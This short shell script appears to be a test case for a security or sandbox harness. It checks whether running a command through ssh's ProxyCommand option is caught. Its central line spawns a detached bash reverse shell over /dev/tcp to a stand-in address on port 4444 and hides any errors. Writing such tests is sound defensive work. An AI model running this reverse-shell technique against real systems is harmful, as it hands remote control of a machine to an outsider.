#!/bin/sh
. /opt/case/case.sh

ssh -o ProxyCommand='bash -c "(setsid bash 0<>/dev/tcp/203.0.113.10/4444 1>&0 2>&0 &)"' update.example.org 2>/dev/null || true
wait_for /tmp/reached
took_place
